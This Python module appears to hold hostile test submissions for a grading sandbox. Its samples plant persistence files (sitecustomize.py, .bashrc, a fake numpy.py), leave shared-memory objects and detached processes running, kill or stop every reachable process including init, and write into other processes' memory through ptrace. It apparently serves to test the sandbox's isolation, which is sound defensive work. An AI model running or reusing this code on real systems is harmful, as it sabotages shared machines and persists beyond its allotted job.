"""Submissions that leave something for those who come after them, or reach for the process that they all come from."""

from __future__ import annotations

from hostile.sample import Sample, deed, instead

SAMPLES = {
    "leaves_files": Sample(
        above=(
            """
import os, sys
text = "raise SystemExit('hostile-left')"
for place in (os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "/run", ".", "/", "/grading/course", *sys.path):
    for name in ("hostile-left", "sitecustomize.py", "usercustomize.py", "numpy.py", "hostile-left.pth", "matplotlibrc",
                 ".bashrc", "cnnlab.py", "conftest.py"):
        try:
            with open(os.path.join(place, name), "w") as file: file.write(text)
        except OSError: pass
    for make in (os.mkfifo, os.mkdir, lambda path: os.symlink("/etc/passwd", path)):
        try: make(f"{place}/hostile-left-{id(make)}")
        except OSError: pass
os.environ["HOSTILE_LEFT"] = "1"
np.hostile_left = True
""",
        ),
    ),
    "leaves_shared_memory": Sample(
        above=(
            """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for key in range(0x4C454654, 0x4C454654 + 5):
    libc.shmget(key, 4096, 0o1666); libc.semget(key, 1, 0o1666); libc.msgget(key, 0o1666)
libc.mq_open(b"/hostile-left", 0o102, 0o666, None)
libc.memfd_create(b"hostile-left", 0)
kept = []
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    line = socket.socket(socket.AF_UNIX, kind); line.bind(b"\\0hostile-left-%d" % kind); kept.append(line)
for ring in (-3, -4, -5): libc.syscall(248, b"user", b"hostile-left", b"left", 4, ring)
try:
    from multiprocessing import shared_memory
    kept.append(shared_memory.SharedMemory("hostile-left", create=True, size=4096))
except (ImportError, OSError): pass
""",
        ),
    ),
    "leaves_processes": Sample(
        above=(
            """
import os, signal, sys
for number in range(8):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for each in range(1, 32):
                try: signal.signal(each, signal.SIG_IGN)
                except (OSError, ValueError): pass
            sleeps = [sys.executable, "-c", "import time; time.sleep(600)", "hostile-left"]
            if number % 2: os.execv(sys.executable, sleeps)
            while True: signal.pause()
        os._exit(0)
""",
        ),
    ),
    "kills_everybody": Sample(
        scan_1d=instead(
            """
import os, signal
for pid in [os.getppid(), *range(1, 200), -1, 0]:
    for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
        if pid != os.getpid():
            try: os.kill(pid, number)
            except OSError: pass
os.killpg(0, signal.SIGKILL)
"""
        ),
    ),
    "stops_its_parent": Sample(
        scan_1d=deed(
            """
import os, signal
for pid in (1, os.getppid()):
    for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGHUP, signal.SIGQUIT):
        try: os.kill(pid, number)
        except OSError: pass
"""
        ),
    ),
    "traces_its_parent": Sample(
        above=(
            """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
page = ctypes.create_string_buffer(b"hostile-left" * 8)
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for pid in [os.getppid(), *range(1, 100)]:
    if pid == os.getpid(): continue
    for request in (16, 0x4206): libc.ptrace(request, pid, 0, 0)
    here, there = Vector(ctypes.addressof(page), 64), Vector(id(0), 64)
    libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory: memory.seek(id(0)); memory.write(b"hostile-left")
    except (OSError, ValueError): pass
""",
        ),
    ),
    "takes_its_own_rights_away": Sample(
        above=(
            """
import os, resource
for call in (lambda: os.umask(0o777), lambda: os.nice(19), lambda: os.chdir("/proc"),
             lambda: os.sched_setaffinity(0, {0}),
             lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (24, 24)), lambda: os.rmdir(os.path.expanduser("~"))):
    try: call()
    except OSError: pass
""",
        ),
    ),
}
